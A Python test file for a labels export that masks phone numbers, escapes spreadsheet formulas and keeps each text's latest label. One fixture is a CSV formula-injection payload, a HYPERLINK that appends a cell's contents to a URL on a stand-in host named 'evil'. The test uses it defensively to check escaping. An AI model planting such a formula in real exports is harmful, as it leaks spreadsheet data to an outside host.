"""What `gridbot nlp labels export` writes and what training reads: phones masked, formulas escaped, the
latest label per text."""

from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

from handlers.labels.export import examples, write_csv
from handlers.labels.model import ClassificationLabel, LabelSource
from nlp.types import Category

AT = datetime(2026, 12, 1, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))


def _label(
    text: str, category: Category, minutes: int = 0, source: LabelSource = LabelSource.RESIDENT_CHOICE
) -> ClassificationLabel:
    return ClassificationLabel(
        id=minutes + 1,
        text=text,
        category=category,
        source=source,
        actor_kind="resident",
        actor_id=7,
        created_at=AT + timedelta(minutes=minutes),
    )


def test_the_csv_masks_phones_and_escapes_formulas() -> None:
    stream = io.StringIO()
    count = write_csv(
        [
            _label("水管爆了，电话13912345678 快来", Category.REPAIR),
            _label('=HYPERLINK("http://evil/?"&A1,"点击")', Category.OTHER, 1, LabelSource.STAFF_CORRECTION),
            _label("-楼下有人吵架", Category.ORDER_DISPUTE, 2, LabelSource.MEMBER_CORRECTION),
        ],
        stream,
    )
    rows = list(csv.reader(io.StringIO(stream.getvalue())))
    assert count == 3
    assert rows[0] == ["text", "label", "source", "created_at"]
    assert rows[1] == [
        "水管爆了，电话139****5678 快来",
        "repair",
        "resident_choice",
        "2026-12-01T09:00:00+08:00",
    ]
    assert rows[2][0] == '\'=HYPERLINK("http://evil/?"&A1,"点击")'
    assert rows[2][2] == "staff_correction"
    assert rows[3][:3] == ["'-楼下有人吵架", "order_dispute", "member_correction"]
    assert "13912345678" not in stream.getvalue()


def test_training_reads_the_latest_label_of_each_text_with_phones_masked() -> None:
    found = examples(
        [
            _label("楼道里一股怪味", Category.SANITATION, 0),
            _label("电话 13912345678 有人找", Category.OTHER, 1),
            _label("楼道里一股怪味", Category.SAFETY_HAZARD, 5, LabelSource.MEMBER_CORRECTION),
            _label("   ", Category.OTHER, 6),
        ]
    )
    assert found == [("电话 139****5678 有人找", "other"), ("楼道里一股怪味", "safety_hazard")]
